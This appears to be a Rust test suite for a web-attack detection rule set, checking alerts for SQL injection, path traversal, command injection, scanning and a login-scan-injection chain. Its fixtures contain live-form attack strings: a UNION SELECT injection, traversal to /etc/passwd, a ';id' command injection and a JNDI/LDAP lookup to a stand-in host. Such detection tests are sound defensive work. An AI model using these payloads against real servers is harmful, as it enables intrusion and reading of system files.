//! Each rule, attacked and not; and all of them, cut in any way.

use bartizan_sdk::{
    Finding, Severity,
    testing::{Plan, Stream, Value, assert_same_findings, run},
};
use proptest::prelude::*;

use crate::WebAttack;

/// 2026-02-03T14:00:00Z.
const START: i64 = 1_770_127_200;
const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36";

fn request(stream: &mut Stream, second: i64, source: &str, url: &str, status: i64, agent: &str) -> u64 {
    let (path, query) = url.split_once('?').unwrap_or((url, ""));
    stream.event(
        START + second,
        &[
            ("event.category", Value::from(&["web"][..])),
            ("source.ip", source.into()),
            ("url.original", url.into()),
            ("url.path", path.into()),
            ("url.query", query.into()),
            ("http.response.status_code", status.into()),
            ("user_agent.original", agent.into()),
            ("host.name", "www1".into()),
        ],
    )
}

fn failure(stream: &mut Stream, second: i64, source: &str) -> u64 {
    stream.event(
        START + second,
        &[
            ("event.category", "authentication".into()),
            ("event.outcome", "failure".into()),
            ("system.auth.ssh.event", "Failed".into()),
            ("source.ip", source.into()),
            ("host.name", "bastion".into()),
        ],
    )
}

fn all(stream: &Stream) -> Vec<Finding> {
    assert_same_findings::<WebAttack>("", stream)
}

fn only(rule: &str, stream: &Stream) -> Vec<Finding> {
    assert_same_findings::<WebAttack>(&format!("rules = [\"{rule}\"]"), stream)
}

#[test]
fn an_injection_is_said_once_an_hour_and_once_more_when_it_is_answered() {
    let mut stream = Stream::new();
    let url = "/item?id=1%27%20UNION%20SELECT%20null,null--%20";
    for (second, status) in [(0, 404), (5, 404), (10, 200), (15, 200), (20, 500)] {
        request(&mut stream, second, "198.51.100.7", url, status, BROWSER);
    }
    request(&mut stream, 3_700, "198.51.100.7", url, 403, BROWSER);
    let findings = all(&stream);
    let said: Vec<_> =
        findings.iter().map(|own| (own.key.as_str(), own.severity, own.events.clone())).collect();
    assert_eq!(
        said,
        [
            ("198.51.100.7/2026-02-03T14", Some(Severity::Medium), vec![1]),
            ("198.51.100.7/2026-02-03T14/answered", None, vec![3]),
            ("198.51.100.7/2026-02-03T15", Some(Severity::Medium), vec![6]),
        ]
    );
    assert_eq!(
        findings[1].summary,
        "198.51.100.7 tried sql injection by asking for /item?id=1%27%20UNION%20SELECT%20null,null--%20 of www1, which was answered with 200"
    );
}

#[test]
fn traversal_commands_and_headers_are_seen() {
    let mut stream = Stream::new();
    request(&mut stream, 0, "198.51.100.7", "/get?f=..%252f..%252f..%252fetc/passwd", 200, BROWSER);
    request(&mut stream, 1, "198.51.100.7", "/ping?ip=127.0.0.1;id", 200, BROWSER);
    request(&mut stream, 2, "203.0.113.5", "/", 200, "${jndi:ldap://203.0.113.6/a}");
    let rules: Vec<String> = all(&stream).into_iter().map(|finding| finding.rule).collect();
    assert_eq!(rules, ["path-traversal", "command-injection", "command-injection"]);
}

#[test]
fn a_request_known_only_by_path_and_query_is_inspected() {
    let mut stream = Stream::new();
    stream.event(
        START,
        &[
            ("event.category", "web".into()),
            ("source.ip", "198.51.100.7".into()),
            ("url.path", "/item".into()),
            ("url.query", "id=1 or 1=1".into()),
        ],
    );
    assert_eq!(all(&stream).len(), 1);
}

#[test]
fn values_without_a_dictionary_are_inspected() {
    let mut stream = Stream::new().as_text("url.original");
    for second in 0..20 {
        let url = format!("/item?id={second}{}", if second == 13 { "+or+1=1" } else { "" });
        request(&mut stream, second, "198.51.100.7", &url, 200, BROWSER);
    }
    let findings = only("sql-injection", &stream);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].events, [14]);
}

#[test]
fn scanning_by_errors_and_by_a_tool_that_says_so() {
    let mut stream = Stream::new();
    for second in 0..50 {
        request(&mut stream, second, "198.51.100.7", &format!("/admin{second}.php"), 404, BROWSER);
        if second < 6 {
            request(
                &mut stream,
                second,
                "203.0.113.5",
                &format!("/x{second}"),
                200,
                "Mozilla/5.0 (Nikto/2.5.0)",
            );
        }
    }
    let findings = all(&stream);
    let summaries: Vec<&str> = findings.iter().map(|finding| finding.summary.as_str()).collect();
    assert_eq!(
        summaries,
        [
            "203.0.113.5 scanned www1: with Mozilla/5.0 (Nikto/2.5.0) within 1 min",
            "198.51.100.7 scanned www1: 30 requests for 30 paths, 30 of them refused, within 1 min",
        ]
    );
    assert_eq!(findings[1].events.len(), 30);
}

#[test]
fn a_crawler_that_behaves_is_no_scanner() {
    let mut stream = Stream::new();
    request(&mut stream, 0, "192.0.2.80", "/robots.txt", 200, "ExampleBot/2.1 (+https://example.org/bot)");
    for page in 1..2_000 {
        let status = if page % 20 == 0 { 404 } else { 200 };
        request(&mut stream, page, "192.0.2.80", &format!("/page/{page}"), status, "ExampleBot/2.1");
    }
    assert_eq!(run::<WebAttack>("", &stream, &Plan::default()), Ok(vec![]));
}

#[test]
fn an_office_behind_one_address_is_no_scanner() {
    let mut stream = Stream::new();
    for number in 0..3_000 {
        let status = if number % 40 == 0 { 404 } else { 200 };
        request(&mut stream, number / 50, "192.0.2.1", &format!("/asset/{}", number % 400), status, BROWSER);
    }
    assert_eq!(run::<WebAttack>("", &stream, &Plan::default()), Ok(vec![]));
}

fn chain(order: [i64; 3]) -> Stream {
    let mut stream = Stream::new();
    let [logins, scan, injection] = order;
    for attempt in 0..5 {
        failure(&mut stream, logins + attempt * 60, "198.51.100.7");
    }
    for number in 0..35 {
        request(&mut stream, scan + number, "198.51.100.7", &format!("/x{number}"), 404, BROWSER);
    }
    request(&mut stream, injection, "198.51.100.7", "/item?id=1+or+1=1", 200, BROWSER);
    stream
}

#[test]
fn the_chain_from_failed_logins_to_injection() {
    let findings = only("login-scan-injection", &chain([0, 4_000, 9_000]).sorted());
    let [finding] = &findings[..] else { panic!("{findings:#?}") };
    assert_eq!(
        finding.summary,
        "198.51.100.7 failed to log in 5 times on bastion, then scanned, then tried SQL injection, all within 2 h 30 min"
    );
    assert_eq!(finding.events.len(), 7);
    // Logs that arrive in another order tell the same.
    let mut late = Stream::new().allow_lateness(bartizan_sdk::Length::hours(12));
    late.append(&chain([0, 4_000, 9_000]));
    assert_eq!(only("login-scan-injection", &late).len(), 1);
}

#[test]
fn parts_of_the_chain_in_another_order_are_no_chain() {
    assert_eq!(only("login-scan-injection", &chain([9_000, 4_000, 0]).sorted()), []);
    assert_eq!(only("login-scan-injection", &chain([0, 4_000, 100_000]).sorted()), []);
}

#[test]
fn the_settings_file_shows_the_defaults() {
    let stream = chain([0, 4_000, 9_000]).sorted();
    let plan = Plan::default();
    let defaults = run::<WebAttack>("", &stream, &plan).unwrap();
    assert_eq!(run::<WebAttack>(include_str!("../settings.toml"), &stream, &plan).unwrap(), defaults);
    assert_eq!(defaults.len(), 3);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]
    #[test]
    fn findings_do_not_depend_on_the_cut(
        steps in proptest::collection::vec((0_i64..10, 0_i64..20, 0_u8..3, 0_u8..12), 1..150),
    ) {
        let mut stream = Stream::new().allow_lateness(bartizan_sdk::Length::seconds(10));
        let mut now = 100;
        for (step, late, source, kind) in steps {
            now += step;
            let source = format!("198.51.100.{source}");
            match kind {
                0 => request(&mut stream, now - late, &source, "/i?id=1+or+1=1", 200, BROWSER),
                1 => request(&mut stream, now - late, &source, "/?f=../../../etc/passwd", 404, BROWSER),
                2 | 3 => failure(&mut stream, now - late, &source),
                _ => request(&mut stream, now - late, &source, &format!("/{now}"), 404, BROWSER),
            };
        }
        let settings = "[scanning]\nerrors = 4\npaths = 5\n[login-scan-injection]\nfailures = 2";
        assert_same_findings::<WebAttack>(settings, &stream);
    }
}
